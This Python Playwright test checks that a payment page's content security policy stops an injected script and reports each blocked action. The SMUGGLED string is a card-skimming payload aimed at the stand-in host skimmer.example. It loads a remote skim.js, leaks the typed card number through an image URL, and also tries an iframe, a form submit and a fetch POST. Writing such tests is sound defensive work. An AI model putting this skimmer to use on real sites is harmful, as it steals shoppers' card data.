"""What somebody smuggles into the card page neither runs nor gets anything out, and is reported (safety.md PP-2)."""

import sqlite3
import time

import pytest
from playwright.sync_api import Browser

from tests.browser.conftest import Product

ELSEWHERE = "https://skimmer.example"
SMUGGLED = """
(elsewhere) => {
  const typed = document.createElement("script");
  typed.textContent = "window.ran = true";
  document.body.append(typed);
  const fetched = document.createElement("script");
  fetched.src = elsewhere + "/skim.js";
  document.body.append(fetched);
  document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.ran = true'>");
  new Image().src = elsewhere + "/?card=" + document.querySelector("[autocomplete=cc-number]").value;
  const frame = document.createElement("iframe");
  frame.src = elsewhere;
  document.body.append(frame);
  const form = document.createElement("form");
  form.action = elsewhere;
  document.body.append(form);
  form.submit();
  return fetch(elsewhere, {method: "POST", body: "card"}).then(() => "sent", () => "stopped");
}
"""


def reported(product: Product) -> set[tuple[str, str, str]]:
    """Which rules of which page stopped what, as the product was told."""
    with sqlite3.connect(product.data / "paygate.sqlite3", timeout=20) as books:
        rows = books.execute("SELECT directive, page, blocked FROM operations_violation").fetchall()
    books.close()
    return set(rows)


@pytest.mark.parametrize("width", [1280], indirect=True, ids=["desktop"])
def test_a_smuggled_script_neither_runs_nor_sends(product: Product, chromium: Browser, width: int) -> None:
    context = chromium.new_context()
    page = context.new_page()
    left: list[str] = []
    page.on("response", lambda answer: left.append(answer.url) if ELSEWHERE in answer.url else None)
    page.goto(f"{product.demo['first_link']}?method=CARD")
    page.locator("[autocomplete=cc-number]").fill("9010003150000001")

    assert page.evaluate(SMUGGLED, ELSEWHERE) == "stopped"

    assert page.evaluate("window.ran") is None
    assert page.url.startswith(product.url)
    assert not left
    wanted = {"script-src-elem", "script-src-attr", "img-src", "frame-src", "form-action", "connect-src"}
    deadline = time.monotonic() + 20
    while not wanted <= {rule for rule, _, _ in reported(product)}:
        assert time.monotonic() < deadline, f"only {reported(product)} was reported"
        page.wait_for_timeout(100)
    of_this_page = {(rule, blocked) for rule, where, blocked in reported(product) if "Payment" in where}
    assert ("connect-src", ELSEWHERE) in of_this_page
    assert not any("card" in part for row in reported(product) for part in row)
    context.close()
